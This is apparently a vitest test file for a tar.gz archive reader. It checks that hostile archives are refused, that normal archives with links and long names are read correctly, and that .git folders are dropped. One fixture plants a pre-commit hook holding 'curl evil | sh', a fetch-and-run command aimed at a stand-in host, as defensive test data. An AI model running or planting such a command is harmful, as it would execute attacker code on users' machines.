import { describe, expect, it } from 'vitest';
import type { ManifestEntry } from '../../../wire/snapshot.ts';
import { readTarGz } from '../../../worker/adapters/tar/read.ts';
import { checkedManifest } from '../../../worker/domain/archive/manifest.ts';
import { hostileArchives } from './hostile-archives.ts';
import { entry, header, pax, tarGz } from './tar-bytes.ts';

const streamOf = (bytes: Uint8Array) => new Blob([bytes as Uint8Array<ArrayBuffer>]).stream();

/** What an archive comes to: paths, and texts of files. */
async function read(bytes: Uint8Array) {
  const found = [];
  for await (const one of readTarGz(streamOf(bytes))) {
    if (one.type !== 'file') {
      found.push(one);
      continue;
    }
    const { chunks, ...rest } = one;
    let text = '';
    for await (const chunk of chunks) text += new TextDecoder().decode(chunk);
    found.push({ ...rest, text });
  }
  return found;
}

/** What the manifest check says is left to the whole: an archive's order is its own. */
async function readAndCheck(bytes: Uint8Array) {
  const found = await read(bytes);
  const entries = found.flatMap((one): ManifestEntry[] => {
    if (one.type === 'link') return [one];
    return one.type === 'file' ? [{ type: 'file', path: one.path, size: 1, mode: 0, hash: 'ab'.repeat(32) }] : [];
  });
  const sorted = entries.sort((a, b) => (a.path < b.path ? -1 : 1));
  const checked = checkedManifest(sorted);
  if (!checked.ok) throw new Error(`${sorted[checked.at]?.path}: ${checked.message}`);
}

describe('a hostile archive', () => {
  it.each(hostileArchives)('with %s is refused in its own words', async (_what, bytes, words) => {
    await expect(readAndCheck(bytes)).rejects.toThrow(words);
  });

  it('is one of at least forty', () => {
    expect(hostileArchives.length).toBeGreaterThanOrEqual(40);
  });
});

describe('an archive', () => {
  it('as tar makes it of a folder is read: `./`, folders, links, hard links, long names', async () => {
    const long = `${'long/'.repeat(60)}name`;
    const archive = tarGz(
      header({ name: './', type: '5', mode: '755' }),
      header({ name: './dir/', type: '5', mode: '755' }),
      entry({ name: './dir/a.txt', mode: '4755' }, 'hello'),
      header({ name: './dir/twin', type: '1', link: './dir/a.txt' }),
      header({ name: './link', type: '2', link: 'dir/../dir/a.txt' }),
      entry({ name: './empty', type: '\0' }),
      pax({ path: `./${long}`, mtime: '1700000000.5' }),
      entry({ name: 'short' }, 'long one'),
      entry({ name: '././@LongLink', type: 'L', magic: 'ustar  \0' }, `./gnu/${long}\0`),
      entry({ name: 'gnu', magic: 'ustar  \0' }, 'gnu one'),
      entry({ name: 'ü/日本.txt' }, 'ü'),
    );
    expect(await read(archive)).toEqual([
      { type: 'file', path: 'dir/a.txt', mode: 0o755, size: 5, text: 'hello' },
      { type: 'twin', path: 'dir/twin', mode: 0o644, of: 'dir/a.txt' },
      { type: 'link', path: 'link', target: 'dir/../dir/a.txt' },
      { type: 'file', path: 'empty', mode: 0o644, size: 0, text: '' },
      { type: 'file', path: long, mode: 0o644, size: 8, text: 'long one' },
      { type: 'file', path: `gnu/${long}`, mode: 0o644, size: 7, text: 'gnu one' },
      { type: 'file', path: 'ü/日本.txt', mode: 0o644, size: 2, text: 'ü' },
    ]);
  });

  it('with git’s own folders inside is read without them', async () => {
    const archive = tarGz(
      header({ name: '.git/', type: '5' }),
      entry({ name: '.git/hooks/pre-commit', mode: '755' }, 'curl evil | sh'),
      entry({ name: 'sub/.GIT' }, 'gitdir: elsewhere'),
      entry({ name: '.gitignore' }, 'node_modules'),
    );
    expect(await read(archive)).toEqual([
      { type: 'left out', path: '.git' },
      { type: 'left out', path: '.git' },
      { type: 'left out', path: 'sub/.GIT' },
      { type: 'file', path: '.gitignore', mode: 0o644, size: 12, text: 'node_modules' },
    ]);
  });

  it('is not read further than its reader wants', async () => {
    for await (const one of readTarGz(streamOf(tarGz(entry({ name: 'a' }, 'x'.repeat(1e6)), entry({ name: 'b' }, 'y'))))) {
      expect(one.path).toBe('a');
      break;
    }
  });
});
